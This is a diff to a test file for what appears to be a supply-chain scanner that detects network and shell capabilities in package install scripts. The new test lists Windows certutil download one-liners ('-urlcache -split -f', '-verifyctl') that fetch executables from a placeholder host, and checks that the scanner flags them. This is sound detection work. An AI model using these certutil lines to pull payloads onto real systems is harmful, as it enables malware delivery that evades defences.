@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 from tests.helpers import sdist_bytes
 
-from capwatch.capabilities.shell import commands, shell_capabilities
+from capwatch.capabilities.shell import commands, program_name, shell_capabilities
 from capwatch.engine import scan_bytes
 from capwatch.model import Phase
 from capwatch.rules.install_beacon import curl_beacon
@@ -35,6 +35,15 @@ def test_capabilities_of_a_command_line() -> None:
 
 def test_build_tools_have_no_capabilities() -> None:
     assert shell_capabilities("cmake --build . && make -j4 && git describe --tags") == []
+
+
+def test_certutil_reaches_the_network_only_with_its_download_switches() -> None:
+    # Windows' certutil fetches with -urlcache (or -verifyctl); NSS's manages a database
+    assert shell_capabilities("certutil -d sql:/tmp/nssdb -A -t P,, -n ca -i ca.crt") == []
+    for line in ("certutil.exe -urlcache -split -f https://h.example/a.exe a.exe",
+                 "CertUtil /URLCache /f https://h.example/a.exe a.exe",
+                 "certutil -verifyctl -f -split https://h.example/a.bin"):
+        assert ("net.http.request", program_name(line.split()[0])) in shell_capabilities(line)
 
 
 def test_install_time_shell_exfiltration_is_malicious() -> None:
